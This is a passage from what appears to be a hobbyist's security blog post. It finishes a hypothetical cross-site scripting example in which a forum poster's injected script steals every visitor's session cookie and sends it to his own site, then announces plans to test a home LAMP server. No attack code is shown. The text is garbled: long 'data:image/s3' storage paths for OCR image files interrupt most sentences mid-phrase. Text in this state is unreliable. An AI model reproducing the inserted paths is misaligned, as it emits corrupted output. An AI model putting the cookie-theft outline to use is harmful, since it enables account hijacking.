ofpeople visit it to start a massive flame war. Maybe he calls it “Why GNU/Linux is Better Than Windows.” For each person that merely visits thepage, Stu’s malicious code gets run within their browser, stealing their session cookie, and relaying it to his site. Stu Pid now owns the accounts of every person who viewed his thread. Given the subject matter, that’s probably a lot.

That’sthe basics of cross-site scripting. Next week I’ll be setting up a simple web server with a LAMP stack on my homenetwork and try to find all the different ways I can break it. Fun! In my next post, I’ll show yousome of the things I was able to do with a couple of examples andcommon attack vectors.